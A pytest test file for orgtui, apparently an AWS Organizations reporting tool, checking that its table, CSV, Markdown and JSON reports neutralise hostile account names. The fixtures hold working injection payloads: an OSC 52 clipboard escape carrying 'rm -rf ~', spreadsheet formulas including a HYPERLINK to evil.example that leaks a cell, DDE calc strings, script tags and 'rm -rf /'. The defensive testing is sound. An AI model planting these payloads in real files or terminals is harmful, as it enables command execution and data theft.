"""The report document and its four renderings, on snapshots built by hand."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from datetime import datetime, timedelta, timezone

import pytest

from orgtui.model import FULL_AWS_ACCESS_ID, Account, Policy
from orgtui.report import CSV_COLUMNS, FORMATS, RENDERERS, build, render
from tests.support.orgs import MGMT_ID, PROD_ID, ROOT_ID, make_account, make_snapshot

NOW = datetime(2026, 11, 28, 18, 0, tzinfo=timezone(timedelta(hours=1)))
WEB = "222222222222"
ODD = "333333333333"


@pytest.fixture
def snap():
    web = make_account(
        WEB,
        name="web-prod",
        joined_method="CREATED",
        joined=datetime(2026, 11, 27, 12, 0, tzinfo=timezone.utc),
    )
    odd = Account(
        ODD,
        'Ödd | "name", with, commas',
        "odd@example.com",
        "arn",
        "SUSPENDED",
        "INVITED",
        None,
        ROOT_ID,
    )
    scp = Policy("p-deny0001", "DenyS3", "SERVICE_CONTROL_POLICY")
    full = Policy(FULL_AWS_ACCESS_ID, "FullAWSAccess", "SERVICE_CONTROL_POLICY", True)
    return make_snapshot(
        web,
        odd,
        tags={WEB: {"team": "web", "env": "prod"}, ODD: {"a,b": 'x;"y"'}},
        delegated={WEB: ("guardduty.amazonaws.com",)},
        policies=[scp, full],
        attachments={ROOT_ID: (full.id,), PROD_ID: (scp.id,)},
    )


def test_build_one_account_exactly(snap):
    doc = build(snap, NOW)
    assert doc["generated_at"] == "2026-11-28T17:00:00Z"
    assert doc["organization"] == {
        "id": "o-test",
        "management_account_id": MGMT_ID,
        "feature_set": "ALL",
    }
    assert doc["caller"] == {"account": MGMT_ID, "arn": f"arn:aws:iam::{MGMT_ID}:user/admin"}
    assert doc["summary"] == {"accounts": 3, "blocked": 3, "review": 0, "ready": 0}
    web = next(a for a in doc["accounts"] if a["id"] == WEB)
    findings = web.pop("findings")
    assert web == {
        "id": WEB,
        "name": "web-prod",
        "email": f"{WEB}@example.com",
        "state": "ACTIVE",
        "joined_method": "CREATED",
        "joined_timestamp": "2026-11-27T12:00:00Z",
        "parent_id": PROD_ID,
        "ou_path": ["Root", "Workloads", "Prod"],
        "tags": {"team": "web", "env": "prod"},
        "delegated_services": ["guardduty.amazonaws.com"],
        "policies": [
            {
                "id": FULL_AWS_ACCESS_ID,
                "name": "FullAWSAccess",
                "type": "SERVICE_CONTROL_POLICY",
                "attached_to": ROOT_ID,
            },
            {
                "id": "p-deny0001",
                "name": "DenyS3",
                "type": "SERVICE_CONTROL_POLICY",
                "attached_to": PROD_ID,
            },
        ],
        "verdict": "blocked",
    }
    assert [f["code"] for f in findings] == [
        "DELEGATED_ADMIN",
        "WAIT_PERIOD_ACTIVE",
        "STANDALONE_UNVERIFIED",
        "TAGS_WILL_BE_DELETED",
        "POLICIES_STOP_APPLYING",
    ]
    assert {f["severity"] for f in findings} == {"blocker", "warning", "notice"}


def test_build_only_the_accounts_asked_for_in_that_order(snap):
    doc = build(snap, NOW, [ODD, WEB])
    assert [a["id"] for a in doc["accounts"]] == [ODD, WEB]
    assert doc["summary"]["accounts"] == 2
    odd = doc["accounts"][0]
    assert odd["joined_timestamp"] is None
    assert odd["ou_path"] == ["Root"]


def test_json_round_trips_and_keeps_unicode(snap):
    text = render(build(snap, NOW), "json")
    assert "Ödd" in text
    assert json.loads(text) == json.loads(json.dumps(build(snap, NOW)))


def test_csv_quotes_awkward_values_and_stays_parseable(snap):
    rows = list(csv.reader(io.StringIO(render(build(snap, NOW), "csv"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 4
    by_id = {r[0]: dict(zip(CSV_COLUMNS, r, strict=True)) for r in rows[1:]}
    assert by_id[ODD]["name"] == 'Ödd | "name", with, commas'
    assert by_id[ODD]["tags"] == 'a,b=x;"y"'
    assert by_id[ODD]["joined_timestamp"] == ""
    assert by_id[WEB]["tags"] == "team=web;env=prod"
    assert by_id[WEB]["ou_path"] == "Root/Workloads/Prod"
    assert by_id[WEB]["findings"].split(";")[0] == "DELEGATED_ADMIN"
    assert by_id[WEB]["policies"] == "FullAWSAccess;DenyS3"


def test_markdown_escapes_pipes_and_lists_blockers(snap):
    text = render(build(snap, NOW), "markdown")
    assert "**3 accounts: 3 blocked, 0 to review, 0 ready.**" in text
    assert f"by arn:aws:iam::{MGMT_ID}:user/admin; management account {MGMT_ID}." in text
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    assert len(rows) == 4
    odd = next(r for r in rows if ODD in r)
    assert "Ödd \\| " in odd
    assert odd.replace("\\|", "").count("|") == 7
    assert "### Blockers" in text
    assert f"({WEB}) WAIT_PERIOD_ACTIVE" in text


def test_table_render_without_a_terminal(snap):
    text = render(build(snap, NOW), "table", width=200)
    assert "3 accounts, 3 blocked, 0 review, 0 ready" in text
    assert "web-prod" in text and "Root / Workloads / Prod" in text
    assert f"{WEB}@example.com" in text  # wide enough for the email column
    assert "\x1b[" not in text  # no colour codes in a file or a pipe


def test_every_format_renders_and_unknown_is_refused(snap):
    doc = build(snap, NOW)
    assert FORMATS == ("table", "json", "csv", "markdown")
    assert tuple(RENDERERS) == FORMATS
    for fmt in FORMATS:
        assert render(doc, fmt).endswith("\n")
        assert render(doc, fmt) == RENDERERS[fmt](doc, None)
    with pytest.raises(ValueError):
        render(doc, "yaml")


def test_a_new_format_is_one_entry_in_renderers(snap, monkeypatch):
    """RENDERERS is the one place formats are listed: render() dispatches through it."""
    seen = []

    def to_count(doc, width):
        seen.append(width)
        return f"{doc['summary']['accounts']}\n"

    monkeypatch.setitem(RENDERERS, "count", to_count)
    assert render(build(snap, NOW), "count", width=90) == "3\n"
    assert seen == [90]


# --- one account: counts in words ---------------------------------------------------------


@pytest.mark.parametrize("fmt", ["table", "markdown"])
def test_one_account_is_counted_in_words(snap, fmt):
    text = render(build(snap, NOW, [WEB]), fmt)
    assert re.search(r"\b1 accounts\b", text) is None, text
    assert ("1 account, 1 blocked" if fmt == "table" else "**1 account: 1 blocked") in text


# --- hostile names: nothing reaches a terminal or a spreadsheet --------------------------

OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"  # sets the clipboard
HOSTILE = {
    "osc52": f"clip{OSC52}board",
    "title": "\x1b]2;pwned title\x07x",
    "clear": "\x1b[2Jclear",
    "lines": "line\nbreak\r\nand\rreturn",
    "tab": "\ttab",
    "bel": "bell\x07",
    "c1": "c1\x9b31mred",
    "rtl": "exe.\u202etxt",
    "zw": "zero\u200bwidth",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "cmd": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "html": "<script>alert(1)</script>",
    "link": "[x](http://evil.example)",
    "code": "`rm -rf /`",
    # Invisible, blank-looking or reordering characters, and a tower of combining marks.
    "shy": "soft\xadhyphen",
    "hangul": "blank\u3164\u115f\u1160\uffa0name",
    "tagchars": "flag\U000e0067\U000e0062\U000e007f",
    "zalgo": "z" + "\u0301\u0302\u0303\u0304\u0305" * 4 + "algo",
    "separators": "line\u2028para\u2029graph",
    "bidi": "\u2066iso\u2069\u200e\u200f\u061c\u202a\u202b\u202c\u202d",
    "zerowidth": "a\u200c\u200d\u2060\ufeffb",
}
H_IDS = {key: f"{n:012d}" for n, key in enumerate(HOSTILE, start=200000000001)}


def _hostile_snapshot(texts: dict[str, str] = HOSTILE):
    """Every text a person or AWS can set holds one hostile string: account names,
    emails, states, OU and root names, tags, policy names, the caller's ARN, the
    organization id."""
    from orgtui.model import Caller, Organization, OrgUnit, Root, Snapshot, frozen_map

    root = Root(
        "r-ab12", texts["title"] + "Root", "arn:root", (("SERVICE_CONTROL_POLICY", "ENABLED"),)
    )
    ou = OrgUnit("ou-ab12-11111111", texts["osc52"] + "Prod", "arn:ou", root.id)
    accounts = {}
    for n, (key, text) in enumerate(texts.items()):
        acc_id = H_IDS[key]
        accounts[acc_id] = Account(
            acc_id,
            text,
            f"{text}@example.com",
            "arn",
            text if n % 4 == 0 else "ACTIVE",
            "CREATED" if n % 3 == 0 else "INVITED",
            datetime(2026, 11, 27, tzinfo=timezone.utc),
            ou.id if n % 2 else root.id,
        )
    scp = Policy("p-hostile01", texts["formula"], "SERVICE_CONTROL_POLICY")
    return Snapshot(
        organization=Organization(texts["clear"], "arn:org", H_IDS["osc52"], "m@x", "ALL"),
        caller=Caller(H_IDS["osc52"], texts["osc52"] + "arn:aws:iam::1:user/x"),
        roots=(root,),
        ous=frozen_map({ou.id: ou}),
        accounts=frozen_map(accounts),
        child_ous=frozen_map({root.id: (ou.id,), ou.id: ()}),
        child_accounts=frozen_map(
            {
                p: tuple(a for a, acc in accounts.items() if acc.parent_id == p)
                for p in (root.id, ou.id)
            }
        ),
        loaded_at=NOW,
        tags=frozen_map(
            {
                a: frozen_map({text: text, "k": text})
                for a, text in zip(accounts, texts.values(), strict=True)
            }
        ),
        delegated=frozen_map({H_IDS["cmd"]: (texts["html"],)}),
        policies=frozen_map({scp.id: scp}),
        attachments=frozen_map({ou.id: (scp.id,)}),
        enriched=True,
    )


# Letters that draw as blanks: a name made of them looks empty.
HANGUL_FILLERS = "\u115f\u1160\u3164\uffa0"


def _bad_chars(text: str) -> list[str]:
    """Characters no report may hold raw: C0 controls other than the line separator, DEL
    and C1, format characters (bidi, zero-width, soft hyphen, tag characters), line and
    paragraph separators, the Hangul fillers; and a third combining mark in a row. Judged
    by Unicode's categories, not by orgtui's own list."""
    bad, marks = [], 0
    for ch in text:
        category = unicodedata.category(ch)
        marks = marks + 1 if category[0] == "M" else 0
        if (
            (category == "Cc" and ch != "\n")
            or category in ("Cf", "Zl", "Zp", "Cs")
            or ch in HANGUL_FILLERS
            or 0xE0000 <= ord(ch) <= 0xE007F
            or marks > 2
        ):
            bad.append(ch)
    return bad


TEXT_FORMATS = [f for f in FORMATS if f != "json"]


def _hostile_doc() -> dict:
    """The hostile snapshot's document; a skipped impact check's reason quotes AWS too."""
    doc = build(_hostile_snapshot(), NOW)
    doc["checks"]["ram"] = {
        "status": "skipped",
        "reason": f"access denied: {HOSTILE['osc52']}{HOSTILE['html']}",
    }
    return doc


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_no_control_character_in_any_text_report(fmt):
    doc = _hostile_doc()
    text = render(doc, fmt, width=100)
    assert _bad_chars(text) == []
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
    # Shown, as visible escapes, not dropped: a reader can see what the name holds.
    shown = {
        "table": "".join(text.split()),
        "csv": text,
        "markdown": text.replace("\\\\", "\\").replace("\\]", "]"),
    }[fmt]
    assert "\\x1b]52;c;cm0gLXJmIH4=\\x07" in shown
    assert "exe.\\u202etxt" in shown
    # (short pieces: the table folds long names)
    for piece in ("soft\\xad", "blank\\u3164", "flag\\U000e0067", "line\\u2028"):
        assert piece in shown
    assert "z\u0301\u0302algo" in shown  # two marks kept, the rest dropped


def test_json_keeps_the_raw_values():
    doc = build(_hostile_snapshot(), NOW)
    text = render(doc, "json")
    assert "\x1b" not in text and "\x07" not in text  # json escapes them
    back = json.loads(text)
    assert {a["name"] for a in back["accounts"]} == set(HOSTILE.values())
    assert OSC52 in back["caller"]["arn"]


def test_json_escapes_invisible_and_bidi_characters_and_keeps_them():
    doc = build(_hostile_snapshot(), NOW)
    text = render(doc, "json")
    # Combining marks are text, kept as they are in the data; everything else that
    # draws nothing or reorders is written as \\uXXXX.
    assert [ch for ch in _bad_chars(text) if unicodedata.category(ch)[0] != "M"] == []
    for escape in ("\\u009b", "\\u202e", "\\u2028", "\\u2029", "\\u00ad", "\\u3164"):
        assert escape in text
    assert "\\udb40\\udc67" in text  # U+E0067, a tag character, as JSON's surrogate pair
    back = json.loads(text)
    assert {a["name"] for a in back["accounts"]} == set(HOSTILE.values())
    assert back["accounts"][-1]["tags"]["k"] == HOSTILE["zerowidth"]


def test_json_of_ordinary_text_is_what_json_writes(snap):
    """Names in any script, quotes, pipes: byte for byte json.dumps' own output."""
    doc = build(snap, NOW)
    doc["accounts"][0]["name"] = "Ödd 名前 Ελληνικά עברית \u00e9\u0301 \U0001f600"
    assert render(doc, "json") == json.dumps(doc, indent=2, ensure_ascii=False) + "\n"


def test_table_on_a_real_terminal_adds_no_escape_sequence():
    """On a terminal rich styles the table (SGR sequences); a hostile name must add no
    escape sequence of its own: no OSC, no CSI but rich's colours, no BEL."""
    from rich.console import Console

    from orgtui.report import to_table

    def on_terminal(doc, width) -> str:
        buf = io.StringIO()
        to_table(doc, Console(file=buf, width=width, force_terminal=True, color_system="truecolor"))
        return buf.getvalue()

    sgr = re.compile(r"\x1b\[[0-9;]*m")
    benign_doc = build(_hostile_snapshot({k: f"plain-{k}" for k in HOSTILE}), NOW)
    benign_doc["checks"]["ram"] = {"status": "skipped", "reason": "access denied"}
    for width in (60, 120):  # blocks, then a table
        hostile = on_terminal(_hostile_doc(), width)
        benign = on_terminal(benign_doc, width)
        assert sgr.search(hostile), "rich should style the table on a terminal"
        plain = sgr.sub("", hostile)
        assert "\x1b" not in plain and "\x07" not in plain and _bad_chars(plain) == []
        assert set(sgr.findall(hostile)) <= set(sgr.findall(benign))
        assert "ram(accessdenied:clip\\x1b]52;c;" in "".join(plain.split())


def test_csv_cells_hold_no_live_formula():
    doc = _hostile_doc()
    rows = list(csv.reader(io.StringIO(render(doc, "csv"), newline="")))
    assert len(rows) == 1 + len(HOSTILE)
    for row in rows[1:]:
        assert len(row) == len(CSV_COLUMNS)
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    by_id = {r[0]: dict(zip(CSV_COLUMNS, r, strict=True)) for r in rows[1:]}
    assert by_id[H_IDS["formula"]]["name"] == "'" + HOSTILE["formula"]
    assert by_id[H_IDS["cmd"]]["name"] == "'+cmd|' /C calc'!A0"
    assert by_id[H_IDS["minus"]]["name"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_id[H_IDS["at"]]["email"] == "'@SUM(1+1)*cmd|' /C calc'!A0@example.com"
    assert by_id[H_IDS["tab"]]["name"] == "\\ttab"  # visible, and no longer a prefix
    assert by_id[H_IDS["formula"]]["policies"] == "'" + HOSTILE["formula"]
    assert by_id[H_IDS["cmd"]]["tags"].startswith("'+cmd")
    assert by_id[H_IDS["html"]]["name"] == "<script>alert(1)</script>"  # CSV has no HTML


def _unescaped(text: str, specials: str) -> list[str]:
    """The characters of `specials` in Markdown `text` that no backslash escapes."""
    found, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        if text[i] in specials:
            found.append(text[i])
        i += 1
    return found


def test_markdown_holds_no_html_link_or_code():
    doc = _hostile_doc()
    text = render(doc, "markdown")
    assert _unescaped(text, "<>[]`") == []
    assert "\\<script\\>alert(1)\\</script\\>" in text
    assert "\\[x\\](http://evil.example)" in text
    assert "\\`rm -rf /\\`" in text
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    assert len(rows) == 1 + len(HOSTILE)
    assert all(len(_unescaped(row, "|")) == 7 for row in rows)  # six cells each
    blockers = [line for line in text.splitlines() if line.startswith("- **")]
    assert blockers and any("\\<script\\>" in line for line in blockers)  # DELEGATED_ADMIN


# --- the table at terminal widths ---------------------------------------------------------

LONG_CODE = "IDENTITY_CENTER_ACCESS_LOST"  # the longest finding code of DESIGN.md


@pytest.fixture
def wide_doc():
    """Long names, emails and OU paths, every state, and the longest finding code."""
    accounts = [
        make_account(f"{n:012d}", name=name, state=state, joined_method=method, parent_id=parent)
        for n, (name, state, method, parent) in enumerate(
            [
                ("payments-platform-production-eu-central-1-primary", "ACTIVE", "CREATED", PROD_ID),
                ("sandbox", "SUSPENDED", "INVITED", ROOT_ID),
                ("x" * 50, "PENDING_ACTIVATION", "INVITED", PROD_ID),
                ("log-archive", "PENDING_CLOSURE", "INVITED", PROD_ID),
                ("ready-one", "ACTIVE", "INVITED", PROD_ID),
            ],
            start=444455556660,
        )
    ]
    doc = build(make_snapshot(*accounts, tags={a.id: {"team": "t"} for a in accounts}), NOW)
    for a in doc["accounts"]:  # make_account's emails hold the id: keep one id a line
        a["email"] = f"owner+{a['name'][:12]}@example.com"
    for a in doc["accounts"][:3]:
        a["findings"].append({"code": LONG_CODE, "severity": "notice", "message": "m", "fix": "f"})
    return doc


@pytest.mark.parametrize("width", [60, 80, 100, 110, 120, 160])
def test_table_keeps_ids_codes_and_verdicts_whole(wide_doc, width):
    from rich.cells import cell_len

    text = render(wide_doc, "table", width=width)
    lines = text.splitlines()
    assert max(cell_len(line) for line in lines) <= width
    for a in wide_doc["accounts"]:
        holding = [line for line in lines if re.search(rf"(?<!\d){a['id']}(?!\d)", line)]
        assert len(holding) == 1, (a["id"], text)  # whole, on one line, once
        assert re.search(rf"\b{a['verdict']}\b", holding[0]), (a["id"], text)
    for code in {f["code"] for a in wide_doc["accounts"] for f in a["findings"]}:
        expected = sum(f["code"] == code for a in wide_doc["accounts"] for f in a["findings"])
        assert len(re.findall(rf"\b{code}\b", text)) == expected, (code, text)
    assert "PENDING_ACTIVATION" in text.replace("\n", "") or "PENDING_AC" in text


def test_table_folds_email_then_ou_path_then_blocks(wide_doc):
    """The widest layout that fits: every column at 160, the email under the name at 110,
    the OU path too at 100, one block per account at 80 (the longest code takes 27)."""

    def header(width: int) -> list[str]:
        text = render(wide_doc, "table", width=width)
        line = next((ln for ln in text.splitlines() if ln.startswith("Account")), "")
        return line.split()

    assert header(160) == ["Account", "Id", "Email", "OU", "path", "State", "Verdict", "Findings"]
    assert header(110) == ["Account", "Id", "OU", "path", "State", "Verdict", "Findings"]
    assert header(100) == ["Account", "Id", "State", "Verdict", "Findings"]
    assert header(80) == []
    blocks = render(wide_doc, "table", width=80)
    first = next(a for a in wide_doc["accounts"] if a["name"].startswith("payments"))
    assert f"\n{first['id']}  {first['verdict']}  {first['name']}\n" in blocks
    assert "\n  Root / Workloads / Prod\n" in blocks
    for width, folded in (
        (110, ["owner+ready-one@example.com"]),
        (100, ["Root/Workloads/Prod", "owner+ready-one@example.com"]),
    ):
        # What left the columns is in the Account column, under the name.
        lines = render(wide_doc, "table", width=width).splitlines()
        id_at = next(ln for ln in lines if ln.startswith("Account")).index("Id")
        account_column = "".join(ln[:id_at].replace(" ", "") for ln in lines)
        assert "ready-one" + "".join(folded) in account_column, width


def test_markdown_keeps_ids_whole(wide_doc):
    text = render(wide_doc, "markdown")
    rows = [
        line
        for line in text.splitlines()
        if line.startswith("| 4") is False and line.startswith("| ") and "Account" not in line
    ]
    assert len(rows) == len(wide_doc["accounts"])
    for a in wide_doc["accounts"]:
        assert sum(f"| {a['id']} |" in row for row in rows) == 1


# --- the JSON file: the C encoder, the same bytes (issue 34) ---------------------------


def _pure_python_json(doc: dict) -> str:
    """What to_json wrote before issue 34: json's pure-Python encoder (indent=2)."""
    from orgtui.text import escape_for_json

    return escape_for_json(json.dumps(doc, indent=2, ensure_ascii=False)) + "\n"


def test_the_json_report_is_byte_for_byte_the_pure_python_encoders(snap):
    doc = build(snap, NOW)
    assert RENDERERS["json"](doc) == _pure_python_json(doc)


def test_the_json_report_of_hostile_and_non_ascii_text_is_the_same_bytes():
    doc = _hostile_doc()
    # brackets, quotes, backslashes, empty containers and non-ASCII inside strings
    doc["accounts"][0]["tags"].update(
        {"{k}": "[v]", 'q"uote': "back\\slash", "é—ü": "日本語 😀", "{}": "[]", ",": ":"}
    )
    doc["accounts"][0]["empty"] = {"list": [], "map": {}, "nested": [[], {}, [{}]]}
    assert RENDERERS["json"](doc) == _pure_python_json(doc)


def test_the_json_report_of_the_sample_org_is_the_same_bytes(capsys):
    from orgtui.cli import main

    assert main(["--demo", "audit", "--report", "json"]) == 0
    out = capsys.readouterr().out
    assert out == _pure_python_json(json.loads(out))


# --- what a container passes down, once per container (issue 34) ----------------------


def test_policies_inherited_are_computed_once_per_container(snap, monkeypatch):
    """report.build assesses every account, and each asks for the policies that apply
    to it: what a root or OU passes down is computed once per container, and every
    account gets the same answer as walking its own ancestors."""
    from orgtui.model import AppliedPolicy, Snapshot

    def walked(s: Snapshot, node_id: str) -> list[AppliedPolicy]:
        return [
            AppliedPolicy(s.policies[p], target)
            for target in [*s.ancestors(node_id), node_id]
            for p in s.attachments.get(target, ())
            if p in s.policies
        ]

    expected = {a: walked(snap, a) for a in snap.accounts}
    asked: dict[str, int] = {}
    attached = Snapshot._attached

    def counting(self: Snapshot, target: str):
        asked[target] = asked.get(target, 0) + 1
        return attached(self, target)

    monkeypatch.setattr(Snapshot, "_attached", counting)
    build(snap, NOW)
    containers = {c for a in snap.accounts for c in snap.ancestors(a)}
    assert containers and all(asked[c] == 1 for c in containers), sorted(asked.items())
    assert {a: snap.applied_policies(a) for a in snap.accounts} == expected
